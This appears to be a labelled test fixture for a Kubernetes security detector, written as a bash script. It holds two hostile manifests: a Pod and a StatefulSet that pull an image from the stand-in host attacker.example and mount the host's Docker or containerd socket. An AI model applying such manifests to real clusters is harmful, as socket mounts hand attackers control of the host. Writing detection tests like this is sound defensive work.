# shellcheck shell=bash disable=SC2154
# what: a pod is given the container engine's socket.
# label: malicious
# expects: [docker-socket-mount]
# allows: [image-from-unknown-registry, pod-host-path-mounted, cluster-resource-created, api-called-by-script]
develop() {
    given <<'Y' | intruder apply -f -
apiVersion: v1
kind: Pod
metadata: {name: builder, namespace: shop}
spec:
  containers: [{name: b, image: "attacker.example/tools:1", volumeMounts: [{name: s, mountPath: /var/run/docker.sock}]}]
  volumes: [{name: s, hostPath: {path: /var/run/docker.sock, type: Socket}}]
Y
}
hold_out() { python POST /apis/apps/v1/namespaces/shop/statefulsets '{"metadata":{"name":"registry"},"spec":{"serviceName":"r","selector":{"matchLabels":{"app":"r"}},"template":{"metadata":{"labels":{"app":"r"}},"spec":{"containers":[{"name":"r","image":"attacker.example/tools:1","volumeMounts":[{"name":"s","mountPath":"/run/c.sock"}]}],"volumes":[{"name":"s","hostPath":{"path":"/run/containerd/containerd.sock"}}]}}}}'; }
